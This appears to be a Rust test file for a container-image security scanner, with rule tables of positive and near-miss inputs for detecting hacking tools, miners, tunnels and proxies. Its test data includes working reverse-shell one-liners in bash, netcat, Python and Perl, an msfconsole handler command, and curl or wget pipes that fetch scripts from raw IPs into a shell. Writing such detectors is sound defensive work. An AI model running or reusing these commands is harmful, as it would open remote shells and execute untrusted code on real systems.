        case("hacking_tool_binary", "usr/share/john", Text, "", None),
        case("hacking_tool_binary", "home/john", Text, "john's notes", None),
        // Debian's sqlmap: usr/bin/sqlmap is a link to the script, which is the finding.
        case("hacking_tool_binary", "usr/bin/sqlmap", NameOnly, "", None),
        case("hacking_tool_binary", "usr/share/sqlmap/sqlmap.py", Text, "import sys\n", None),
        case("nmap_binary", "usr/bin/nmap", Elf, "\x7fELF", Some(Medium)),
        case("nmap_binary", "opt/nmap-static/nmap", Elf, "\x7fELF", Some(Medium)),
        case("nmap_binary", "usr/share/nmap/nmap-services", Text, "http 80/tcp", None),
        case("nmap_binary", "usr/share/nmap", NameOnly, "", None),
        case(
            "nmap_binary",
            "usr/share/nmap/scripts/http-title.nse",
            Text,
            "local http = require \"http\"\n",
            None,
        ),
        case(
            "nmap_script_engine",
            "usr/share/nmap/nse_main.lua",
            Text,
            "-- Arguments when this file\n",
            Some(Low),
        ),
        case("nmap_script_engine", "usr/share/nmap/scripts/http-title.nse", Text, "local http\n", None),
        case(
            "hacking_tool_strings",
            "config.Cmd",
            ConfigField,
            "msfconsole -q -x 'use exploit/multi/handler'",
            Some(High),
        ),
        case("hacking_tool_strings", "README.md", Text, "Do not run sqlmap against us", None),
        // Debian's john: usr/sbin/john says who it is.
        case(
            "hacking_tool_strings",
            "usr/sbin/john",
            Elf,
            "\x7fELF\0John the Ripper password cracker, version 1.9.0\0",
            Some(High),
        ),
        case("hacking_tool_strings", "usr/share/doc/passlib/README", Text, "John the Ripper formats", None),
        case(
            "reverse_shell_dev_tcp",
            "config.Cmd",
            ConfigField,
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            Some(High),
        ),
        case(
            "reverse_shell_dev_tcp",
            "healthcheck.sh",
            Script,
            "#!/bin/bash\nexec 3<>/dev/tcp/localhost/8080\n",
            None,
        ),
        case("reverse_shell_netcat", "x.sh", Script, "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n", Some(High)),
        case(
            "reverse_shell_netcat",
            "x.sh",
            Script,
            "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n",
            Some(High),
        ),
        case("reverse_shell_netcat", "x.sh", Script, "#!/bin/sh\nnc -z localhost 80\n", None),
        case(
            "reverse_shell_python",
            "config.Cmd",
            ConfigField,
            r#"python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)'"#,
            Some(High),
        ),
        case(
            "reverse_shell_python",
            "app.py",
            Text,
            "import socket\ns = socket.socket()\ns.connect((host, port))\n",
            None,
        ),
        case(
            "reverse_shell_perl",
            "config.Cmd",
            ConfigField,
            r#"perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");}'"#,
            Some(High),
        ),
        case(
            "reverse_shell_perl",
            "app/Net.pm",
            Text,
            "use Socket;\nmy $sock = IO::Socket::INET->new(PeerAddr => $host);\n",
            None,
        ),
    ]
}

fn other_cases() -> Vec<Case> {
    let eicar = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    vec![
        case("known_bad_file", "tmp/eicar.com", Text, eicar, Some(High)),
        case("known_bad_file", "tmp/eicar.com", Text, eicar.replace('X', "Y"), None),
        case(
            "download_exec_raw_ip",
            "config.Cmd",
            ConfigField,
            "curl -s http://45.9.148.35/x.sh | bash",
            Some(High),
        ),
        case(
            "download_exec_raw_ip",
            "i.sh",
            Script,
            "#!/bin/sh\nwget -qO- 103.1.2.3:8080/a | sh\n",
            Some(High),
        ),
        case(
            "download_exec_raw_ip",
            "i.sh",
            Script,
            "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n",
            None,
        ),
        case(
            "download_exec_url",
            "i.sh",
            Script,
            "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n",
            Some(Low),
        ),
        case("download_exec_url", "i.sh", Script, "#!/bin/sh\ncurl -o x https://get.docker.com\n", None),
    ]
}

/// A torrc that reaches Tor through obfs4 bridges (the Tor Project's bridge setup).
const TORRC_BRIDGES: &str = "\
SocksPort 9050
UseBridges 1
ClientTransportPlugin obfs4 exec /usr/bin/obfs4proxy
Bridge obfs4 192.0.2.11:443 4352E58420E68F5E40BF7C74FADDCCD9D1349413 cert=Ab1Cd2 iat-mode=0 # first
";

/// The shape of Debian's /etc/tor/torrc: every line a comment (excerpt of the real file).
const TORRC_DEBIAN: &str = "\
## Configuration file for a typical Tor user
##
## Bridge relays (or \"bridges\") are Tor relays that aren't listed in the
## main directory.
#BridgeRelay 1
#SocksPort 9050 # Default: Bind to localhost:9050 for local connections.
## Uncomment this if you want to use bridges
#UseBridges 1
#ClientTransportPlugin obfs4 exec /usr/bin/obfs4proxy
";

/// The active part of Debian's /etc/proxychains4.conf and the comment block before its list.
const PROXYCHAINS_DEBIAN: &str = "\
strict_chain
proxy_dns
remote_dns_subnet 224
tcp_read_time_out 15000
tcp_connect_time_out 8000
#        Examples:
#
#            \tsocks5\t192.168.67.78\t1080\tlamer\tsecret
#\t\thttp\t192.168.89.3\t8080\tjustu\thidden
#       proxy types: http, socks4, socks5, raw
#
[ProxyList]
# add proxy here ...
# defaults set to \"tor\"
socks4 \t127.0.0.1 9050
";

/// The trojan server example of trojan-gfw.github.io/trojan/config.
const TROJAN_SERVER: &str = r#"{
    "run_type": "server",
    "local_addr": "0.0.0.0",
    "local_port": 443,
    "remote_addr": "127.0.0.1",
    "remote_port": 80,
    "password": [
        "password1",
        "password2"
    ],
    "log_level": 1,
    "ssl": {
        "cert": "/path/to/certificate.crt",
        "key": "/path/to/private.key"
    }
}"#;

/// The structure of Debian's v2ray sample config (usr/share/v2ray/config.json), comments kept.
const V2RAY_DEBIAN: &str = r#"// Config file of V2Ray.
{
  "log": {"loglevel": "warning"},
  // List of inbound proxy configurations.
  "inbounds": [{
    "port": 1080,
    "listen": "127.0.0.1",
    "tag": "socks-inbound",
    "protocol": "socks",
    "settings": {"auth": "noauth", "udp": false, "ip": "127.0.0.1"}
  }],
  // List of outbound proxy configurations.
  "outbounds": [{"protocol": "freedom", "settings": {}, "tag": "direct"},
                {"protocol": "blackhole", "settings": {}, "tag": "blocked"}]
}"#;

/// Debian's shadowsocks-libev sample config: `server` is a list there.
const SS_LIBEV_DEBIAN: &str = r#"{
    "server":["::1", "127.0.0.1"],
    "mode":"tcp_and_udp",
    "server_port":8388,
    "local_port":1080,
    "password":"barfoo!",
    "timeout":86400,
    "method":"chacha20-ietf-poly1305"
}
"#;

#[test]
fn hosts() {
    let judge = |host: &str| {
        let mut out = Vec::new();
        crate::rules().judge_host(host, "opt/app/run.sh", None, &mut out);
        out.into_iter().map(|m| (m.rule.to_string(), m.confidence)).collect::<Vec<_>>()
    };
    assert_eq!(judge("evil.duckdns.org"), vec![("dynamic_dns_host".to_owned(), High)]);
    assert_eq!(judge("EVIL.DuckDNS.org."), vec![("dynamic_dns_host".to_owned(), High)]);
    assert_eq!(judge("www.duckdns.org"), vec![("dynamic_dns_host".to_owned(), Medium)]);
    assert_eq!(judge("a.b.no-ip.org"), vec![("dynamic_dns_host".to_owned(), High)]);
    assert_eq!(judge("pool.supportxmr.com"), vec![("mining_pool_domain".to_owned(), High)]);
    assert_eq!(judge("abc123.ngrok-free.app"), vec![("tunnel_service_domain".to_owned(), High)]);
    assert_eq!(judge("ngrok.com"), vec![("tunnel_service_domain".to_owned(), Medium)]);
    assert_eq!(judge("update.honeygain.com"), vec![("proxyware_domain".to_owned(), High)]);
    for clean in ["duckdns.org.example.com", "notduckdns.org", "github.com", "org", "", "localhost"] {
        assert!(judge(clean).is_empty(), "{clean}");
    }
}

#[test]
fn hosts_named_only_in_documentation_are_low_with_the_reason() {
    let rules = crate::rules();
    let mut out = Vec::new();
    rules.judge_host("bohan.dyndns.org", "usr/share/doc/coreutils/THANKS.gz", None, &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!((&*out[0].rule, out[0].confidence), ("dynamic_dns_host", Low));
    assert!(out[0].detail.get("false_positive").is_some_and(|r| r.contains("documentation")), "{:?}", out[0]);
    assert!(rules.is_false_positive_place("usr/share/doc/coreutils/THANKS.gz"));
    assert!(rules.is_false_positive_place("usr/share/man/man1/ls.1.gz"));
    // The Public Suffix List names providers' shared domains by design.
    let mut out = Vec::new();
    rules.judge_host("go.dyndns.org", "usr/share/publicsuffix/public_suffix_list.dat", None, &mut out);
    assert_eq!(out.iter().map(|m| m.confidence).collect::<Vec<_>>(), [Low]);
    assert!(rules.is_false_positive_place(
        "app/venv/lib/python3.11/site-packages/tldextract/.tld_set_snapshot/public_suffix_list.dat"
    ));
    // Test trees are places for every rule a place can excuse, hosts included; a key generated
    // at build time is no place at all.
    assert!(rules.is_false_positive_place("usr/lib/python3/dist-packages/requests/tests/test_x.py"));
    assert!(
        rules.is_false_positive_place(
            "usr/local/lib/python3.11/site-packages/twisted/mail/test/rfc822.message"
        )
    );
    assert!(!rules.is_false_positive_place("etc/ssl/private/ssl-cert-snakeoil.key"));
    assert!(!rules.is_false_positive_place("opt/app/run.sh"));
}

#[test]
fn places_lower_what_they_can_excuse_and_say_which_class_they_are() {
    let pem = make::rsa_pem(600, 7);
    // A test suite's key is low, with the class of the place in the detail.
    let found = scan_as("usr/local/lib/python3.11/dist-packages/ecdsa/test_keys.py", Text, pem.as_bytes());
    let key = found.iter().find(|m| &*m.rule == "private_key").expect("the key is found");
    assert_eq!(key.confidence, Low);
    assert_eq!(key.detail.get("place").map(String::as_str), Some("test"), "{:?}", key.detail);
    // A miner's configuration is a miner wherever it lies: no place excuses it.
    let config = r#"{"autosave": true, "donate-level": 1, "cpu": {"huge-pages": true}, "pools": [{"algo": "rx/0", "url": "x", "user": "w"}]}"#;
    for path in ["app/tests/config.json", "usr/share/doc/x/examples/config.json"] {
        let found = scan_as(path, Text, config.as_bytes());
        let m = found.iter().find(|m| &*m.rule == "miner_config").expect("the config is found");
        assert_eq!(m.confidence, High, "{path}: {:?}", m.detail);
    }
}

#[test]
fn keys_generated_at_build_are_counted_and_marked_apart() {
    let pem = make::rsa_pem(600, 7);
    for path in ["etc/ssh/ssh_host_rsa_key", "etc/ssl/private/ssl-cert-snakeoil.key"] {
        let found = scan_as(path, Text, pem.as_bytes());
        let key = found.iter().find(|m| &*m.rule == "private_key").expect("the key is found");
        assert_eq!(key.confidence, High, "{path}");
        assert_eq!(key.detail.get("origin").map(String::as_str), Some("generated_at_build"), "{path}");
    }
    let found = scan_as("root/.ssh/id_rsa", Text, pem.as_bytes());
    let key = found.iter().find(|m| &*m.rule == "private_key").expect("the key is found");
    assert_eq!(key.detail.get("origin"), None, "a key someone put there");
}

#[test]
fn a_weak_context_lowers_a_host_with_its_reason() {
    let rules = crate::rules();
    let mut out = Vec::new();
    rules.judge_host("meson.dyndns.org", "opt/app/AUTHORS", Some("an e-mail address"), &mut out);
    assert_eq!(
        out.iter().map(|m| (m.confidence, m.detail.get("false_positive").cloned())).collect::<Vec<_>>(),
        [(Low, Some("an e-mail address".to_owned()))]
    );
    assert_eq!(rules.host_suffix("meson.dyndns.org"), Some("dyndns.org"));
    assert_eq!(rules.host_suffix("example.com"), None);
}

#[test]
fn cryptomining() {
    check(&cryptomining_cases());
}

#[test]
fn embedded_keys_tokens() {
    check(&embedded_keys_tokens_cases());
}

#[test]
fn embedded_keys_aws() {
    check(&embedded_keys_aws_cases());
}

#[test]
fn embedded_keys_files() {
    check(&embedded_keys_files_cases());
}

#[test]
fn proxy_avoidance() {
    check(&proxy_avoidance_cases());
}

#[test]
fn hacking_tools() {
    check(&hacking_tools_cases());
}

#[test]
fn other() {
    check(&other_cases());
}

/// Every content, path and command rule has a table: at least one positive and one near-miss
/// negative. (Host rules are tabled in `hosts` above.)
#[test]
fn every_rule_has_positives_and_near_miss_negatives() {
    use hubcensus_rules::Trigger;
    let all: Vec<Case> = [
        cryptomining_cases(),
        embedded_keys_tokens_cases(),
        embedded_keys_aws_cases(),
        embedded_keys_files_cases(),
        proxy_avoidance_cases(),
        hacking_tools_cases(),
        other_cases(),
    ]
    .into_iter()
    .flatten()
    .collect();
    let mut missing = Vec::new();
    for rule in crate::rules().rules().filter(|r| r.trigger() != Trigger::Host) {
        let (positive, negative) = if rule.trigger() == Trigger::Command {
            (
                COMMAND_CASES.iter().any(|c| c.rule == rule.id() && c.want.is_some()),
                COMMAND_CASES.iter().any(|c| c.rule == rule.id() && c.want.is_none()),
            )
        } else {
            (
                all.iter().any(|c| c.rule == rule.id() && c.want.is_some()),
                all.iter().any(|c| c.rule == rule.id() && c.want.is_none()),
            )
        };
        if !positive || !negative {
            missing.push(format!("{} (positive: {positive}, negative: {negative})", rule.id()));
        }
    }
    assert!(missing.is_empty(), "rules without a full table:\n  {}", missing.join("\n  "));
}

/// The MySQL block of trojan's shipped `etc/trojan/config.json` (Debian bookworm's trojan).
const TROJAN_MYSQL_BLOCK: &str = r#"{
    "tcp": {
        "no_delay": true,
        "fast_open": false,
        "fast_open_qlen": 20
    },
    "mysql": {
        "enabled": false,
        "server_addr": "127.0.0.1",
        "server_port": 3306,
        "database": "trojan",
        "username": "trojan",
        "password": "",
        "cipher": "",
        "timeout": 30
    }
}"#;
